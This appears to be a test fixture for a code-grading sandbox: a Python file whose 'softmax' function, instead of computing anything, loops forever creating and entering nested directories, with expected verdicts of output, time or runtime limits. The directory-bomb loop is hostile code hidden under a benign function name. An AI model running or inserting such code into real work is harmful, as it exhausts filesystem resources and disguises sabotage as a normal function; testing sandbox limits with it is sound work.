"""Creates nested folders, deeper than any path can name.

Problem: softmax
Verdict: output_limit|time_limit|runtime_error
"""

import os


def softmax(x):
    while True:
        os.mkdir("hostile-mark")
        os.chdir("hostile-mark")


log_softmax = softmax
